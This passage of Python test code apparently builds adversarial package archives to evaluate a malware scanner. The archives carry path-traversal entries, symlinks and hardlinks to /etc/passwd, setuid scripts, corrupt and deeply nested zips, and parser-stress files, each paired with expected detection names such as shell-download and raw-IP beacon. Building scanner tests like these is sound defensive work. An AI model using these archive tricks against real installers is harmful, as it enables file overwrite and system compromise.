        ("overlap-zip", "overlapping zip", (EvalFile("overlap_zip-1.0.zip", _overlapping_zip(m), "sdist"),),
         (f"archive.overlapping-entries @ {m}-a.py",)),
        ("escaping-paths", "absolute and .. paths", (
            _tar_sdist("escaping-paths", "1.0", [
                (_entry(f"/tmp/{m}-absolute.py"), ok),
                (_entry(f"../../{m}-parent.py"), ok),
                (_entry(f"pkg/../../../{m}-deep-parent.py"), ok),
            ]),
            _wheel("escaping-paths", "1.0", {
                f"../../{m}-zip-parent.py": ok, f"/tmp/{m}-zip-absolute.py": ok, f"C:\\{m}\\zip-drive.py": ok,
            }),
        ), (f"archive.absolute-path @ /tmp/{m}-absolute.py", f"archive.parent-path @ ../../{m}-parent.py",
            f"archive.parent-path @ {m}-deep-parent.py", f"archive.parent-path @ {m}-zip-parent.py",
            f"archive.absolute-path @ /tmp/{m}-zip-absolute.py", "archive.absolute-path @ zip-drive.py")),
        ("links", "symlinks and hardlinks", (
            _tar_sdist("links", "1.0", [
                (_entry(f"{m}-passwd", tarfile.SYMTYPE, linkname="/etc/passwd"), None),
                (_entry(f"{m}-up", tarfile.SYMTYPE, linkname=f"../../../{m}-target"), None),
                (_entry(f"{m}-tmp", tarfile.SYMTYPE, linkname="/tmp"), None),
                (_entry(f"{m}-tmp/{m}-through-link.py"), ok),  # lands in /tmp if the link was followed
                (_entry(f"{m}-hard", tarfile.LNKTYPE, linkname="/etc/hostname"), None),
                (_entry(f"{m}-hard-up", tarfile.LNKTYPE, linkname=f"../../{m}-target"), None),
            ]),
            _wheel("links", "1.0", {zip_link: b"/etc/passwd"}, links=frozenset({zip_link})),
        ), tuple(f"archive.link @ {m}-{n}" for n in ("passwd", "up", "tmp", "hard", "hard-up", "zip-link"))),
        ("special-files", "devices, fifo, setuid", (_tar_sdist("special-files", "1.0", [
            *((_entry(f"{m}-special{n}", kind, devmajor=1, devminor=3), None)
              for n, kind in enumerate(specials)),
            (_entry(f"{m}-suid.sh", mode=0o4755), b"#!/bin/sh\nid\n"),
        ]),), (*(f"archive.special-file @ {m}-special{n}" for n in range(3)), f"archive.setuid @ {m}-suid.sh")),
        ("corrupt", "corrupt archives", (
            EvalFile(whole.filename, whole.data[: len(whole.data) // 2], "sdist"),  # the gzip stream cut short
            EvalFile("corrupt-1.0-py3-none-any.whl", b"PK\x03\x04" + random.Random(1).randbytes(3000), "wheel"),
            EvalFile("corrupt-1.0.zip", b"", "sdist"),
        ), (f"archive.corrupt @ {whole.filename}", "archive.corrupt @ corrupt-1.0-py3-none-any.whl",
            "archive.corrupt @ corrupt-1.0.zip")),
        ("nested-deep", "nested archives",
         _release("nested-deep", "1.0", {f"data/{m}-level1.zip": _nested(4, b"exec(x)\n")}),
         ("archive.nested-too-deep @ level1.zip!level2.zip!level3.zip",)),
        ("many-members", "member count",
         (EvalFile("many_members-1.0.tar.gz", _many_members(f"many_members-1.0/{m}", 20_100), "sdist"),),
         ("archive.too-many-members @ .txt",)),
        ("million-lines", "a million short lines",
         _release("million-lines", "1.0", {"million_lines/table.py": padded}),
         ("parse.node-limit @ million_lines/table.py", "process.shell-download @ million_lines/table.py")),
        ("bad-utf8", "invalid utf-8",
         _release("bad-utf8", "1.0", {"bad_utf8/x.py": b"\xff\xfe\xfa = 1\n" + beacon}),
         ("network.raw-ip-url @ bad_utf8/x.py",)),
        ("deep-unary", "60,000-deep unary chain",
         _release("deep-unary", "1.0", {"deep_unary/x.py": "x = " + "-" * 60_000 + "1\n"}),
         ("parse.failed @ deep_unary/x.py",)),
        ("deep-brackets", "250 nested brackets",
         _release("deep-brackets", "1.0", {"deep_brackets/x.py": "x = " + "(" * 250 + "1" + ")" * 250 + "\n"}),
         ("parse.failed @ deep_brackets/x.py",)),
        # Aura never unpacked .tar.xz.
        ("xz-sdist", ".tar.xz sdist", _release("xz-sdist", "1.0", {"xz_sdist/__init__.py": shell}, sdist="xz"),
         ("process.shell-download @ xz_sdist/__init__.py",)),
        ("non-utf8-names", "non-utf-8 member names", (
            _tar_sdist("non-utf8-names", "1.0", [(_entry(f"\udcff\udcfe{m}/beacon.py"), beacon)],
                       format=tarfile.GNU_FORMAT, encoding="utf-8", errors="surrogateescape"),
            EvalFile("non_utf8_names-1.0-py3-none-any.whl", _non_utf8_zip(b"p/\xff/b2.py", beacon), "wheel"),
        ), (f"network.raw-ip-url @ {m}/beacon.py", "network.raw-ip-url @ /b2.py")),
    ]  # fmt: skip
    return tuple(
        EvalCase(name, "1.0", family, files, _expect(*expected), adversarial=True)
        for name, family, files, expected in table
    )
